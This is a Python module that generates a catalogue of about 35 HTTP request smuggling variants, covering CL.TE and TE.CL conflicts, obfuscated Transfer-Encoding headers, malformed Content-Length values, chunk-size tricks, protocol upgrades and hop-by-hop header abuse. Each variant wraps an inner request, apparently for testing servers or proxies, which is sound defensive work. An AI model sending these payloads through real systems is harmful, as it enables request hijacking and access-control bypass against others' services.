"""Requests that two servers in a row could read in two ways: the classes of request smuggling, each as we write it."""

from __future__ import annotations

from collections.abc import Mapping

Attack = tuple[tuple[str, ...], bytes]  # header lines of a POST, and what follows its head

CHUNKED, END = "Transfer-Encoding: chunked", b"0\r\n\r\n"


def attacks(inner: bytes) -> Mapping[str, Attack]:
    """Return each class by its name; `inner` is the request that must not come out behind."""
    whole = f"Content-Length: {len(inner)}"
    size = b"%x\r\n" % len(inner)
    return {
        "CL.TE": (("Content-Length: 4", CHUNKED), END + inner),
        "TE.CL": ((CHUNKED, "Content-Length: 4"), size + inner + b"\r\n" + END),
        "TE.TE, one crippled": ((CHUNKED, "Transfer-Encoding: identity"), END + inner),
        "TE.TE, the first crippled": (("Transfer-Encoding: x", CHUNKED), END + inner),
        "TE twice": ((CHUNKED, CHUNKED), END + inner),
        "TE with identity in front": (("Transfer-Encoding: identity, chunked", "Content-Length: 5"), END + inner),
        "TE with identity behind": (("Transfer-Encoding: chunked, identity", "Content-Length: 5"), END + inner),
        "TE of another name": (("Transfer-Encoding: xchunked", "Content-Length: 5"), END + inner),
        "TE behind a vertical tab": (("Transfer-Encoding:\x0bchunked", "Content-Length: 5"), END + inner),
        "TE with a blank before the colon": (("Transfer-Encoding : chunked", "Content-Length: 5"), END + inner),
        "TE with an underscore": (("Transfer_Encoding: chunked", "Content-Length: 5"), END + inner),
        "TE in quotes": (('Transfer-Encoding: "chunked"', "Content-Length: 5"), END + inner),
        "TE on a folded line": (("X: y\r\n Transfer-Encoding: chunked", "Content-Length: 5"), END + inner),
        "TE behind a bare LF": (("X: y\nTransfer-Encoding: chunked", "Content-Length: 5"), END + inner),
        "TE behind a bare CR": (("X: y\rTransfer-Encoding: chunked", "Content-Length: 5"), END + inner),
        "CL twice": (("Content-Length: 0", whole), inner),
        "CL as a list": ((f"Content-Length: 0, {len(inner)}",), inner),
        "CL with a sign": (("Content-Length: +5",), END + inner),
        "CL below nothing": (("Content-Length: -1",), inner),
        "CL in hex": (("Content-Length: 0x5",), END + inner),
        "CL too large for a number": ((f"Content-Length: {2**64 + 5}",), END + inner),
        "CL.0": ((whole,), inner),
        "0.CL": (("Content-Length: 0",), inner),
        "a chunk with an extension": ((CHUNKED,), b"0;x=y\r\n\r\n" + inner),
        "a chunk whose extension ends in LF": ((CHUNKED,), b"2;\nxx\r\n" + size + inner + b"\r\n" + END),
        "a size with a sign": ((CHUNKED,), b"+0\r\n\r\n" + inner),
        "a size with a prefix": ((CHUNKED,), b"0x0\r\n\r\n" + inner),
        "a size too large for a number": ((CHUNKED,), b"1" + b"0" * 16 + b"\r\n\r\n" + inner),
        "chunks that end in LF": ((CHUNKED,), b"0\n\n" + inner),
        "a trailer": ((CHUNKED,), b"0\r\nContent-Length: 0\r\n\r\n" + inner),
        "an upgrade to HTTP/2": (
            ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"),
            inner,
        ),
        "an upgrade to a web socket": (
            ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"),
            inner,
        ),
        "a body that waits": (("Expect: 100-continue", "Content-Length: 0"), inner),
        "TE named as a hop": (("Connection: close, Transfer-Encoding", CHUNKED, "Content-Length: 5"), END + inner),
        "CL named as a hop": (("Connection: keep-alive, Content-Length", whole), inner),
    }
